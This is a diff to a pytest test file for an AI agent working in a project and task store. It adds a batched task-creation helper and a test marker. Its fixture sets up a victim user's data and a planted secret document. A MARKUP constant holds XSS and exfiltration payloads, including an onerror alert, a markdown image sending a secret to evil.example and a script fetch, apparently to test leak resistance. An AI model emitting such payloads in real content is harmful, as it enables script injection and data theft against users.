@@ -6,6 +6,8 @@ import pytest
 
 from tests.agent.peer import calls, finished, text, turn_of
 
+pytestmark = pytest.mark.long_on_server
+
 MARKUP = "<img src=x onerror=alert(1)>![x](https://evil.example/?q=secret)<script>fetch('//evil')</script>"
 AGENTS = "actor LIKE 'agent:%'"
 
@@ -21,10 +23,10 @@ class World:
         store = self.store
         self.launch, self.other = store.create_project("Launch"), store.create_project("Other")
         self.theirs = victim.create_project("Theirs")
-        self.mine = [store.create_task(f"Mine {n}", project_id=self.launch.id) for n in range(30)]
-        self.others = [store.create_task(f"Other {n}", project_id=self.other.id) for n in range(3)]
+        self.mine = _tasks(store, 30, "Mine", project_id=self.launch.id)
+        self.others = _tasks(store, 3, "Other", project_id=self.other.id)
         self.loose = store.create_task("Of no project")
-        self.victims = [victim.create_task(f"Victim {n}") for n in range(3)]
+        self.victims = _tasks(victim, 3, "Victim")
         self.secret = store.create_document("Secret", "The password is swordfish.", project_id=self.other.id)
         self.their_secret = victim.create_document("Their secret", "swordfish too")
         self.people = [
@@ -42,6 +44,10 @@ class World:
     def sql(self, question):
         """The rows that answer it."""
         return self.workspace.sql(question).to_dict("records")
+
+
+def _tasks(store, number, title, **given):
+    return store.together(lambda at: [at.create_task(f"{title} {n}", **given) for n in range(number)])
 
 
 @pytest.fixture
